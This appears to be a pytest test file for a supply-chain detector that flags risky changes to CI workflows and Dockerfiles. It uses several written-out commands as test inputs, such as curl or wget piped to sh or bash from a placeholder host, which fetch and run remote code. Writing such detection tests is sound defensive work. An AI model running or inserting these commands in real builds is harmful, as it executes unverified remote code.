from __future__ import annotations

import time

import pytest

from clew.detectors.security.base_images import BaseImages, parse_image
from clew.detectors.security.ci_files import CiFiles
from clew.detectors.security.workflow_actions import WorkflowActions
from tests.kit.moments import Moment, evidence, facts, findings, story

CI = ".github/workflows/ci.yml"
COMMIT = "b4ffde65f46336ab88eb53be808477a3936bae11"


def _workflow(*uses: str, run: str = "pytest") -> Moment:
    steps = "".join(f"      - uses: {one}\n" for one in uses)
    return {CI: f"on: [push]\njobs:\n  test:\n    steps:\n{steps}      - run: {run}\n".encode()}


def _actions(old: Moment, new: Moment) -> list[tuple[str, str, str | None, str | None, str]]:
    return [
        (fact.kind, fact.subject, fact.before, fact.after, fact.severity)
        for fact in facts(WorkflowActions(), old, new)
    ]


# Actions


def test_an_action_of_someone_else_is_a_warning_that_names_both() -> None:
    old, new = _workflow("actions/checkout@v4"), _workflow("someone/checkout@main")

    assert _actions(old, new) == [
        (
            "security.dependency",
            "someone/checkout",
            "actions/checkout@v4",
            "someone/checkout@main",
            "high",
        )
    ]
    assert story([WorkflowActions(), CiFiles()], old, new).headline == (
        "! ci.yml: action someone/checkout@main instead of actions/checkout@v4"
    )


def test_another_version_of_an_action_is_told_like_any_version() -> None:
    assert _actions(_workflow("actions/checkout@v4"), _workflow("actions/checkout@v5")) == [
        ("lock.changed", "actions/checkout", "v4", "v5", "none")
    ]
    assert _actions(
        _workflow(f"actions/checkout@{COMMIT}"), _workflow("actions/checkout@" + "a" * 40)
    ) == [("lock.changed", "actions/checkout", "b4ffde6", "aaaaaaa", "none")]


@pytest.mark.parametrize("owner", ["actions", "Astral-SH", "docker"])
def test_an_action_of_an_owner_that_many_use_is_a_note(owner: str) -> None:
    old, new = _workflow("someone/setup-uv@v4"), _workflow(f"{owner}/setup-uv@v4")

    assert [told[4] for told in _actions(old, new)] == ["note"]


@pytest.mark.parametrize(
    ("before", "after", "severity", "mark"),
    [
        ("actions/checkout@v4", "actions/checkout@main", "note", "a branch, which moves"),
        (f"actions/checkout@{COMMIT}", "actions/checkout@main", "high", "a branch, which moves"),
        (f"actions/checkout@{COMMIT}", "actions/checkout@v4", "note", "no longer a fixed commit"),
    ],
)
def test_a_looser_reference_is_a_note_and_a_branch_for_a_commit_a_warning(
    before: str, after: str, severity: str, mark: str
) -> None:
    (fact,) = facts(WorkflowActions(), _workflow(before), _workflow(after))

    assert (fact.severity, fact.marks) == (severity, ("action", mark))
    assert _actions(_workflow(after), _workflow(before))[0][0] == "lock.changed"


def test_actions_that_come_and_go_are_told() -> None:
    one, two = (
        _workflow("actions/checkout@v4"),
        _workflow("actions/checkout@v4", "astral-sh/setup-uv@v5"),
    )

    assert _actions(one, two) == [("lock.added", "astral-sh/setup-uv", None, "v5", "none")]
    assert _actions(two, one) == [("lock.removed", "astral-sh/setup-uv", "v5", None, "none")]


def test_a_workflow_with_other_changes_is_told_by_the_other_detector_too() -> None:
    old, new = _workflow("actions/checkout@v4"), _workflow("someone/checkout@v4", run="make")
    result = story([WorkflowActions(), CiFiles()], old, new)

    assert {fact.kind for fact in result.facts} == {"security.dependency", "security.ci"}
    (finding,) = findings(WorkflowActions(), evidence(_workflow("a/b@v1"), _workflow("a/b@v2")))
    assert finding.claims == (CI,)


def test_own_actions_comments_and_new_workflows_say_nothing() -> None:
    assert _actions(_workflow("./.github/actions/x"), _workflow("./.github/actions/y")) == []
    assert _actions(_workflow("a/b@v1"), {CI: _workflow("a/b@v1")[CI] + b"# uses: c/d@v1\n"}) == []  # type: ignore[operator]
    assert _actions({}, _workflow("someone/checkout@main")) == []


def test_orbs_and_included_files_count() -> None:
    path = ".circleci/config.yml"
    old, new = (
        f"version: 2.1\norbs:\n  node: {orb}\n".encode()
        for orb in ("circleci/node@5.0", "someone/node@5.0")
    )
    assert _actions({path: old}, {path: new})[0][1] == "someone/node"
    old, new = (
        f"include:\n  - remote: 'https://{host}/a.yml'\n".encode()
        for host in ("a.example", "u:canary@b.example")
    )
    told = facts(WorkflowActions(), {".gitlab-ci.yml": old}, {".gitlab-ci.yml": new})
    assert "b.example/a.yml" in repr(told)
    assert "canary" not in repr(told)


# Images


def _images(old: str, new: str) -> list[tuple[str, str, str | None, str | None, str]]:
    return [
        (fact.kind, fact.subject, fact.before, fact.after, fact.severity)
        for fact in facts(BaseImages(), {"Dockerfile": old.encode()}, {"Dockerfile": new.encode()})
    ]


def test_an_image_from_another_registry_is_a_note_that_names_both() -> None:
    old, new = (
        "FROM python:3.12-slim\nCOPY . /app\n",
        "FROM images.example.net/python:latest\nCOPY . /app\n",
    )

    assert _images(old, new) == [
        (
            "security.dependency",
            "python",
            "python:3.12-slim",
            "images.example.net/python:latest",
            "note",
        )
    ]
    moments = ({"Dockerfile": old.encode()}, {"Dockerfile": new.encode()})
    assert story([BaseImages(), CiFiles()], *moments).headline == (
        "Dockerfile: base image images.example.net/python:latest instead of python:3.12-slim"
    )


def test_another_tag_is_told_like_any_version() -> None:
    assert _images("FROM python:3.11\n", "FROM python:3.12\n") == [
        ("lock.changed", "python", "3.11", "3.12", "none")
    ]
    assert _images(
        "FROM --platform=linux/amd64 node:20 AS build\nFROM build\n",
        "FROM --platform=linux/amd64 node:22 AS build\nFROM build\n",
    ) == [("lock.changed", "node", "20", "22", "none")]


def test_an_image_without_its_digest_or_of_another_owner_is_a_note() -> None:
    digest = "sha256:" + "a" * 64
    (fact,) = facts(
        BaseImages(),
        {"Dockerfile": f"FROM python@{digest}\n".encode()},
        {"Dockerfile": b"FROM python:3\n"},
    )
    assert (fact.severity, fact.marks) == ("note", ("base image", "no longer fixed by a digest"))
    assert _images("FROM python:3\n", "FROM someone/python:3\n")[0][0] == "security.dependency"


def test_stages_comments_and_the_same_image_say_nothing() -> None:
    assert (
        _images("FROM python:3 AS a\nFROM a\nRUN x\n", "FROM python:3 AS a\nFROM a\nRUN y\n") == []
    )
    assert _images("FROM python:3\n", "# FROM x.example/y\nfrom python:3\n") == []
    assert parse_image("docker.io/library/python:3") == parse_image("python:3")


def test_a_build_that_runs_what_it_fetches_is_a_warning_with_the_host() -> None:
    old = {"Dockerfile": b"FROM debian\n"}
    new = {
        "Dockerfile": b"FROM debian\nRUN curl -fsSL https://u:canary@get.example.net/x.sh | sh\n"
    }
    (fact,) = facts(BaseImages(), old, new)

    assert (fact.kind, fact.severity) == ("security.ci", "high")
    assert fact.marks == ("runs what it fetches from get.example.net",)
    told = story([BaseImages(), CiFiles()], old, new)
    assert told.headline.startswith("! Dockerfile: runs what it fetches from get.example.net")
    assert "canary" not in repr(told)


_HOST = "https://get.example.net"


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        (f"wget -qO- {_HOST}/x | bash", "high"),
        (f"curl -fsSL {_HOST}/x \\\n    | sudo bash -s -- -y", "high"),
        (f'bash -c "$(curl -fsSL {_HOST}/x)"', "high"),
        (f"bash <(curl -s {_HOST}/x)", "high"),
        (f"curl -o /tmp/i.sh {_HOST}/i.sh && sh /tmp/i.sh && rm /tmp/i.sh", "high"),
        (f"curl -fsSLO {_HOST}/i.sh && chmod +x i.sh && ./i.sh", "high"),
        (f"wget {_HOST}/i.py; python3 i.py", "high"),
        (f"curl {_HOST}/i.sh > i.sh \\\n && bash i.sh", "high"),
        ("curl http://sh.rustup.rs | sh", "high"),
        ("curl https://raw.githubusercontent.com/someone/x/main/i.sh | sh", "high"),
        ("curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y", "note"),
        ("curl -fsSL https://deb.nodesource.com/setup_22.x | bash -", "note"),
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", "note"),
        ("curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash", "note"),
    ],
)
def test_an_installer_that_many_run_is_a_note_and_any_other_a_warning(
    command: str, severity: str
) -> None:
    old, new = (
        {"Dockerfile": b"FROM debian\n"},
        {"Dockerfile": f"FROM debian\nRUN {command}\n".encode()},
    )

    assert [fact.severity for fact in facts(BaseImages(), old, new)] == [severity]
    before, after = _workflow(), _workflow(run=command.replace("\\\n", " "))
    assert [fact.severity for fact in facts(CiFiles(), before, after)] == [severity]


@pytest.mark.parametrize(
    "command",
    [
        f"curl -fsSLO {_HOST}/x.tgz && tar xf x.tgz",
        f"curl -fsSLO {_HOST}/i.sh && echo 'ab  i.sh' | sha256sum -c && sh i.sh",
        f"curl -fsS {_HOST}/health | jq .status",
        f"curl -o data.json {_HOST}/data.json && python3 build.py data.json",
        "apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
    ],
)
def test_a_download_that_is_not_run_or_is_checked_is_no_news(command: str) -> None:
    old, new = (
        {"Dockerfile": b"FROM debian\n"},
        {"Dockerfile": f"FROM debian\nRUN {command}\n".encode()},
    )

    assert facts(BaseImages(), old, new) == []
    assert [one.severity for one in facts(CiFiles(), _workflow(), _workflow(run=command))] == [
        "note"
    ]


def test_hostile_files_take_bounded_time() -> None:
    for content in (
        b"FROM " * 100_000,
        b"uses: " * 100_000,
        b"FROM --a=b " * 50_000,
        b"\xff" * 500_000,
    ):
        started = time.process_time()
        facts(BaseImages(), {"Dockerfile": b""}, {"Dockerfile": content})
        facts(WorkflowActions(), {CI: b""}, {CI: content})
        assert time.process_time() - started < 1.5
